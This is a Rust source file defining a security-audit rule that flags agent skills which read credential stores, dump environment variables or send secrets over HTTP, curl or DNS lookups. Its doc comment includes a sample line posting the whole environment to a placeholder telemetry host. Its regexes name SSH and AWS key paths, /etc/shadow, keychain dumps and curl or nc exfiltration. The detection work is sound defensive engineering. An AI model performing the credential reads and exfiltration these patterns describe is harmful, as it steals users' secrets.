use super::Behaviour;
use crate::{declare_rule, Findings, Project, Rule, RuleMeta};
use std::sync::LazyLock;

declare_rule! {
    /// ## What it finds
    /// A skill that collects credentials or sends them out: reads of credential stores (`~/.ssh`,
    /// `~/.aws/credentials`, `.kube/config`, `.docker/config.json`, `.npmrc`, `.netrc`, browser
    /// `Login Data` and cookies, the macOS keychain), dumps of the whole environment
    /// (`dict(os.environ)`, `printenv`), several secret environment variables gathered into one
    /// payload, and secrets placed into outbound requests — HTTP posts, `curl -d`, and DNS
    /// lookups that carry data in the name (`dig $(… | base64).example.net`).
    ///
    /// ## Why it matters
    /// A skill runs inside the user's session, where every credential the user has is one
    /// file read away. Telemetry or "validation" that ships them to a server is theft.
    ///
    /// ## Vulnerable example
    /// ```python
    /// requests.post("https://telemetry.example.net/collect", json={"env": dict(os.environ)})
    /// ```
    ///
    /// ## Fixed example
    /// ```python
    /// token = os.environ["SERVICE_TOKEN"]  # used only in the Authorization header of the service it belongs to
    /// ```
    ///
    /// ## References
    /// - https://attack.mitre.org/techniques/T1552/
    /// - https://attack.mitre.org/techniques/T1048/
    pub struct SecretExfiltration {
        code: "SKILL-004",
        name: "secret-exfiltration",
        axis: Security,
        severity: High,
        cwe: Some("CWE-522"),
    }
}

static CREDENTIAL_STORE: Behaviour = Behaviour {
    what: "reads a credential store",
    re: LazyLock::new(|| {
        super::re(
            r"~/\.ssh/|\.ssh/id_[a-z0-9]+|~/\.aws/|\b(cp|cat|tar|zip|scp|rsync|base64|xxd|readFileSync|open)\b[^\n]{0,40}(~|\$HOME|\$\{HOME\}|HOME\s*\+\s*[\x22'])/?\.(ssh|aws|gnupg|netrc|env)\b|/proc/(self|\d+)/environ\b|\bcat\s+([^\n|;]*\s)?\.env(\.[a-z]+)?\b|\.aws/credentials|\.kube/config|\.docker/config\.json|~/\.npmrc|~/\.pypirc|~/\.netrc|\.git-credentials|login data|/cookies\b|\bsecurity\s+find-(generic|internet)-password|/etc/shadow|\bkeychain\b[^\n]*\b(dump|export|read)",
        )
    }),
};
static ENV_DUMP: Behaviour = Behaviour {
    what: "collects the whole environment",
    re: LazyLock::new(|| {
        super::re(
            r"\bdict\s*\(\s*os\.environ\s*\)|\bos\.environ\.copy\s*\(\)|\bjson\.dumps\s*\(\s*(dict\()?os\.environ|\{\s*\.\.\.process\.env\s*\}|\bJSON\.stringify\s*\(\s*process\.env\b|\bprintenv\b\s*(\||>)|\benv\s*\|\s*(curl|nc|base64)\b|\$\(\s*(env|printenv)\b",
        )
    }),
};
static SECRETS_GATHERED: Behaviour = Behaviour {
    what: "gathers secret environment variables into one payload",
    re: LazyLock::new(|| {
        super::re(
            r#"(os\.environ(\.get)?\s*[\[(]\s*["'][A-Z0-9_]*(KEY|TOKEN|SECRET|PASSWORD|PASS|CREDENTIALS?|DATABASE_URL)[A-Z0-9_]*["'][\s\S]{0,300}){2,}"#,
        )
    }),
};
static SECRET_SENT: Behaviour = Behaviour {
    what: "sends a secret over the network",
    re: LazyLock::new(|| {
        super::re(
            r#"\b(requests|httpx|session)\.(post|put|get)\s*\([^\n]{0,200}(os\.environ|getenv|secret|token|password|credential)|\bcurl\b[^\n]*(-d|--data[a-z-]*|-F|-H)\s*[^\n]*\$\(?\{?[A-Z0-9_]*(KEY|TOKEN|SECRET|PASSWORD|PASS)|\b(dig|nslookup|host|drill)\b[^\n]*(\$\(|\$\{?[A-Z_]{3,}|\{[a-z_]+\})[^\n]*\.[a-z0-9-]+\.[a-z]{2,}|os\.(popen|system)\s*\(\s*f?["'](dig|nslookup|host)\b|(credential|token|secret|passw|api_?key)[^\n]*\|\s*curl\b[^\n]*(-d\b|--data|-F\b|-T\b|-X\s*POST)|\$\{?[A-Za-z_]\w*\}?[^\n]*\|\s*(base64\s*\|\s*)?curl\b[^\n]*(--data[a-z-]*|-d)\s+@-"#,
        )
    }),
};

static SECRET_READ: LazyLock<Option<regex::Regex>> = LazyLock::new(|| {
    super::re(
        r#"os\.environ(\.get)?\s*[\[(]\s*["'][A-Z0-9_]*(KEY|TOKEN|SECRET|PASSWORD|PASS|CREDENTIALS?|DATABASE_URL)[A-Z0-9_]*["']|process\.env\.[A-Z0-9_]*(KEY|TOKEN|SECRET|PASSWORD)[A-Z0-9_]*|getenv\s*\(\s*["'][A-Z0-9_]*(KEY|TOKEN|SECRET|PASSWORD)"#,
    )
});
static NETWORK_SEND: LazyLock<Option<regex::Regex>> = LazyLock::new(|| {
    super::re(
        r"\b(requests|httpx|session)\.(post|put|patch)\s*\(|\burllib\.request\.urlopen\s*\(|\bfetch\s*\([^)]*method\s*:\s*[\x22']post|\bcurl\b[^\n]*(-d\b|--data|-F\b|-X\s*POST)|\bsocket\.(socket|create_connection)\s*\(",
    )
});

/// Every secret the file reads is used as a credential of a request (an `Authorization` or
/// API-key header): the ordinary way to call the service the secret belongs to.
fn only_in_auth_headers(read: &regex::Regex, text: &str) -> bool {
    let mut any = false;
    for m in read.find_iter(text) {
        any = true;
        let start = text[..m.start()].rfind('\n').map(|i| i + 1).unwrap_or(0);
        let end = text[m.end()..]
            .find('\n')
            .map(|i| m.end() + i)
            .unwrap_or(text.len());
        let line = text[start..end].to_ascii_lowercase();
        if ![
            "authorization",
            "bearer",
            "headers",
            "x-api-key",
            "api-key",
            "auth=",
        ]
        .iter()
        .any(|k| line.contains(k))
        {
            return false;
        }
    }
    any
}

impl Rule for SecretExfiltration {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check(&self, project: &Project, out: &mut Findings) {
        let fix = "remove the collection; a skill that needs a credential names the one variable it uses and sends it only to the service it belongs to";
        super::report_behaviours(
            project,
            out,
            &[&CREDENTIAL_STORE, &ENV_DUMP, &SECRETS_GATHERED],
            fix,
        );
        let (Some(read), Some(send)) = (SECRET_READ.as_ref(), NETWORK_SEND.as_ref()) else {
            return;
        };
        for skill in super::skills(project) {
            for (file, text) in super::skill_code(project, &skill) {
                let already = [&CREDENTIAL_STORE, &ENV_DUMP, &SECRETS_GATHERED]
                    .iter()
                    .any(|b| b.re.as_ref().is_some_and(|re| re.is_match(text)));
                // Secrets used only as the credential of a request are the ordinary case.
                if already || only_in_auth_headers(read, text) {
                    continue;
                }
                // A secret put straight into a request or a DNS name; else a secret read and a
                // request sending data in the same file (the secret goes through a variable or
                // an encoding).
                let (at, what) = match SECRET_SENT.re.as_ref().and_then(|re| re.find(text)) {
                    Some(m) => (m.start(), SECRET_SENT.what.to_string()),
                    None => {
                        let (Some(r), Some(s)) = (read.find(text), send.find(text)) else {
                            continue;
                        };
                        (
                            s.start(),
                            format!("reads a secret (`{}`) and sends data out", r.as_str()),
                        )
                    }
                };
                let line = crate::project::line_of(text, at);
                let mut draft = crate::Draft::new(format!("skill file `{}` {what}", file.name()))
                    .at(&file.path, Some(line))
                    .evidence(crate::project::line_text(text, line, 160).unwrap_or_default())
                    .fix(fix);
                draft.surface = Some(skillaudit_core::Surface::Runtime);
                out.report(draft);
            }
        }
    }
}
